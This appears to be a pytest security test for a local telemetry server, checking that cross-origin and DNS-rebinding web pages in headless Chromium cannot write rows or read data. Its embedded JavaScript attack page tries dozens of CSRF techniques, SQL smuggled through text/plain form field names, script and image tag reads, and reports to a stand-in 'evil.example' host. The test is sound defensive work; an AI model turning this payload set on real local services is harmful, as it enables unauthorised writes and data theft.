"""Web pages in a real browser, of another origin and under a name that was bound anew (DNS rebinding), against the real server: none of
them can write a row or read a byte, with the right password in their hands and reading without one switched on."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from sp_telemetry.home import READER, WRITER
from tests.conftest import require
from tests.ports import free_port
from tests.server import Server, as_json, log_request, server, wait_for

BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
EVIL, REBOUND = "evil.example", "rebound.example"

# The page. `targets` are ports; what was read, if anything, goes to /report of the page's own server, and so does the end.
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const T = %s;
const read = {}, tried = [];
const note = (way, text) => { if (text !== undefined && text !== null && text !== '') read[way] = String(text).slice(0, 200); };
const within = (promise, ms = 4000) => Promise.race([promise, new Promise(done => setTimeout(done, ms))]);
const attempt = async (way, call) => { tried.push(way); try { note(way, await within(call())); } catch (error) {} };
const frame = () => { const f = document.createElement('iframe'); f.name = 'f' + Math.random(); document.body.append(f); return f; };
const tag = (name, attributes) => new Promise(done => {
    const e = document.createElement(name);
    e.onload = () => done(name === 'img' ? e.naturalWidth : window.stolen); e.onerror = () => done();
    Object.assign(e, attributes); document.body.append(e); });
const form = (action, enctype, fields) => new Promise(done => {
    const f = document.createElement('form'), target = frame();
    Object.assign(f, {action, enctype, method: 'post', target: target.name});
    for (const [name, value] of Object.entries(fields)) {
        const i = document.createElement('textarea'); i.name = name; i.value = value; f.append(i); }
    const said = () => { try { done(target.contentDocument && target.contentDocument.body.innerText.trim()); } catch (e) { done(); } };
    target.onload = () => setTimeout(said, 50);
    document.body.append(f); f.submit(); });

async function attack(host, kind, port) {
    const base = `http://${host}:${port}`, mark = way => `evil-${way}-${host}-${kind}`;
    const sql = way => `INSERT INTO telemetry.session_context (session_id) VALUES ('${mark(way)}')`;
    const at = (query, user) => `${base}/?${new URLSearchParams({user: T.users[user][0], password: T.users[user][1], ...query})}`;
    const otlp = way => T.otlp.replace('MARK', mark(way));
    const url = kind === 'otlp' ? base + '/v1/logs' : at({}, 'writer');
    const body = kind === 'otlp' ? otlp : sql;
    const text = async promise => (await promise).text();
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json', 'application/x-protobuf'])
        for (const mode of ['no-cors', 'cors'])
            await attempt(`fetch ${mode} ${type} ${host} ${kind}`, () => text(fetch(url,
                {method: 'POST', mode, credentials: 'include', headers: {'Content-Type': type}, body: body(`fetch-${mode}-${type}`)})));
    await attempt(`beacon ${host} ${kind}`, async () => void navigator.sendBeacon(url, body('beacon')));
    const blob = new Blob([body('beacon-json')], {type: 'application/json'});
    await attempt(`beacon json ${host} ${kind}`, async () => void navigator.sendBeacon(url, blob));
    await attempt(`keepalive ${host} ${kind}`, () => text(fetch(url,
        {method: 'POST', mode: 'no-cors', keepalive: true, body: body('keepalive')})));
    await attempt(`xhr ${host} ${kind}`, () => new Promise(done => {
        const x = new XMLHttpRequest(); x.open('POST', url); x.withCredentials = true;
        x.onload = () => done(x.responseText); x.onerror = () => done(); x.send(body('xhr')); }));
    // A name and a value with = between them make JSON, or SQL.
    await attempt(`form text ${host} ${kind}`, () => kind === 'otlp'
        ? form(url, 'text/plain', {[otlp('form-text').slice(0, -2) + ', "x": "']: '"}'})
        : form(url, 'text/plain', {[sql('form-text') + ' -- ']: ''}));
    await attempt(`form url ${host} ${kind}`, () => form(url, 'application/x-www-form-urlencoded', {query: sql('form-url')}));
    await attempt(`form multipart ${host} ${kind}`, () => form(url, 'multipart/form-data', {query: sql('form-multipart')}));
    await attempt(`redirect ${host} ${kind}`, () => text(fetch('/redirect?' + encodeURIComponent(url),
        {method: 'POST', mode: 'no-cors', body: body('redirect')})));
    await attempt(`websocket ${host} ${kind}`, () => new Promise(done => {
        const w = new WebSocket(base.replace('http', 'ws') + '/?query=SELECT+1');
        w.onopen = () => { w.send(body('websocket')); done('open'); };
        w.onmessage = m => done(m.data); w.onerror = () => done(); }));
    await attempt(`events ${host} ${kind}`, () => new Promise(done => { const e = new EventSource(at({query: 'SELECT 1'}, 'reader'));
        e.onopen = () => { e.close(); done('open'); }; e.onerror = () => { e.close(); done(); }; }));
    await attempt(`sandboxed ${host} ${kind}`, () => new Promise(done => { const f = frame();
        f.sandbox = 'allow-scripts allow-forms'; f.onload = () => setTimeout(done, 200);
        f.srcdoc = `<script>fetch(${JSON.stringify(url)},
            {method: 'POST', mode: 'no-cors', body: ${JSON.stringify(body('sandboxed'))}})<\\/script>`; }));
    const question = {query: `SELECT 'window.stolen = 1;' FORMAT TSVRaw`};
    for (const user of ['reader', 'nobody']) {
        const ask = user === 'nobody' ? `${base}/?${new URLSearchParams(question)}` : at(question, user);
        await attempt(`read no-cors ${user} ${host} ${kind}`, () => text(fetch(ask, {mode: 'no-cors'})));
        await attempt(`read cors ${user} ${host} ${kind}`, () => text(fetch(ask)));
        await attempt(`script ${user} ${host} ${kind}`, () => tag('script', {src: ask}));
        await attempt(`image ${user} ${host} ${kind}`, () => tag('img', {src: ask.replace('TSVRaw', 'PNG')}));
        await attempt(`style ${user} ${host} ${kind}`, () => tag('link', {rel: 'stylesheet', href: ask}));
    }
    await attempt(`iframe ${host} ${kind}`, () => new Promise(done => { const f = frame();
        f.onload = () => { try { done(f.contentDocument.body.innerText); } catch (e) { done(); } };
        f.src = at(question, 'reader'); }));
    for (const path of ['/', '/metrics', '/v1/logs', '/ping'])
        await attempt(`get ${path} ${host} ${kind}`, () => text(fetch(base + path)));
}
(async () => {
    if (T.wait) {
        await fetch(T.report + '/ready?' + location.port, {mode: 'no-cors'});
        while ((await (await fetch(T.report + '/go')).text()) !== 'go') await new Promise(done => setTimeout(done, 100));
    }
    for (const [host, kind, port] of T.targets)
        await attack(host === 'self' ? location.hostname : host, kind, port === 'self' ? location.port : port);
    await fetch(T.report + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({tried, read, page: location.host})});
})();
</script>"""


class Site:
    """The attacker's web server: pages, the reports that they send, and every request that reached it."""

    def __init__(self, page: str, port: int = 0) -> None:
        site = self
        self.reports: list[dict[str, Any]] = []
        self.ready: set[str] = set()
        self.requests: list[str] = []
        self.go = threading.Event()

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                path, _, query = self.path.partition("?")
                kind = self.headers.get("Upgrade", self.headers.get("Content-Type", "").partition(";")[0])
                site.requests.append(f"{self.command} {kind}".strip())
                content = b""
                if path == "/report":
                    site.reports.append(json.loads(body))
                elif path == "/ready":
                    site.ready.add(query)
                elif path == "/go":
                    content = b"go" if site.go.is_set() else b"wait"
                elif path == "/page":
                    content = page.encode()
                self.send_response(307 if path == "/redirect" else 200)
                if path == "/redirect":
                    self.send_header("Location", unquote(query))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            do_GET = do_POST = do_OPTIONS = answer

            def log_message(self, *_: object) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@contextmanager
def site(page: str, port: int = 0) -> Iterator[Site]:
    started = Site(page, port)
    try:
        yield started
    finally:
        if started._thread.is_alive():
            started.close()


@contextmanager
def browser(profile: Path, url: str) -> Iterator[subprocess.Popen]:
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    require(found, "no Chromium")
    process = subprocess.Popen(
        [found, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={profile}", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--remote-debugging-port=0",
         f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    try:
        yield process
    finally:
        os.killpg(process.pid, signal.SIGTERM)  # what is on the PATH may be a script around the browser, which would outlive it
        process.wait(20)


def told(started: Server, **more: Any) -> dict[str, Any]:
    users = {"reader": [READER, started.home.secret(READER)], "writer": [WRITER, started.home.secret(WRITER)]}
    otlp = as_json(log_request([{"name": "api_request", "time_ns": time.time_ns(), "session.id": "MARK"}])).decode()
    return {"users": users, "otlp": otlp, "wait": False, **more}


def written_by_pages(started: Server) -> list[list[Any]]:
    return started.query(
        "SELECT session_id FROM telemetry.telemetry_events FINAL WHERE startsWith(session_id, 'evil')"
        " UNION ALL SELECT session_id FROM telemetry.session_context FINAL WHERE startsWith(session_id, 'evil')"
    )


def test_a_page_of_another_origin_neither_writes_nor_reads(tmp_path: Path) -> None:
    with ExitStack() as stack:
        started = stack.enter_context(server(tmp_path / "home", SP_TELEMETRY_ANONYMOUS_READS="true"))
        recorder = stack.enter_context(site(""))  # told the same, to see what leaves the browser
        kinds = {"otlp": "otlp_http", "sql": "clickhouse", "health": "health", "metrics": "metrics", "grpc": "otlp_grpc"}
        targets = [["127.0.0.1", kind, started.ports[name]] for kind, name in kinds.items()]
        targets += [[host, kind, started.ports[kinds[kind]]] for kind in ("otlp", "sql") for host in ("localhost", REBOUND)]
        targets.append([EVIL, "otlp", recorder.port])
        evil = Site("")
        stack.callback(evil.close)
        page = PAGE % json.dumps(told(started, targets=targets, report=f"http://{EVIL}:{evil.port}"))
        attacker = stack.enter_context(site(page))
        stack.enter_context(browser(tmp_path / "profile", f"http://{EVIL}:{attacker.port}/page"))
        assert wait_for(lambda: evil.reports, 90), (recorder.requests, attacker.requests)
        report = evil.reports[0]
        assert report["read"].keys() <= {way for way in report["tried"] if way.endswith(EVIL + " otlp")}, report  # the recorder's
        assert not [text for text in report["read"].values() if "stolen" in text]
        assert len(set(report["tried"])) > 200
        assert {"POST text/plain", "POST application/x-www-form-urlencoded", "POST multipart/form-data", "GET websocket", "GET"} <= set(
            recorder.requests
        )
        assert written_by_pages(started) == []
        assert started.query("SELECT count() FROM telemetry.telemetry_events") == [[0]]


def test_a_name_bound_anew_to_loopback_neither_writes_nor_reads(tmp_path: Path) -> None:
    """The pages come from the attacker's server on the very ports and names; then the real server is there instead of it."""
    ports = {"CLICKHOUSE": free_port(), "OTLP_HTTP": free_port()}
    settings = {f"SP_TELEMETRY_{name}_PORT": str(port) for name, port in ports.items()}
    with ExitStack() as stack:
        started = Server(tmp_path / "home", SP_TELEMETRY_ANONYMOUS_READS="true", **settings)
        stack.callback(started.down)
        started.up().down()  # makes the secrets, which the page is told
        frames = "".join(f'<iframe src="http://{REBOUND}:{port}/page"></iframe>' for port in ports.values())
        evil = stack.enter_context(site(frames))
        attackers = []
        for kind, name in (("sql", "CLICKHOUSE"), ("otlp", "OTLP_HTTP")):
            report = f"http://{EVIL}:{evil.port}"
            page = PAGE % json.dumps(told(started, targets=[["self", kind, "self"]], report=report, wait=True))
            attackers.append(stack.enter_context(site(page, ports[name])))
        stack.enter_context(browser(tmp_path / "profile", f"http://{EVIL}:{evil.port}/page"))
        assert wait_for(lambda: evil.ready == {str(port) for port in ports.values()}, 60)
        for attacker in attackers:
            attacker.close()
        started.up()
        evil.go.set()
        assert wait_for(lambda: len(evil.reports) == 2, 90)
        for report in evil.reports:
            # The page is of the same origin as what answers it now, so it may read the refusal. That is all.
            texts = {text.strip() for text in report["read"].values()}
            assert texts == {"Refused: this listener answers to localhost, 127.0.0.1 and [::1] only."}, report
            assert len(report["tried"]) > 25
        assert written_by_pages(started) == []
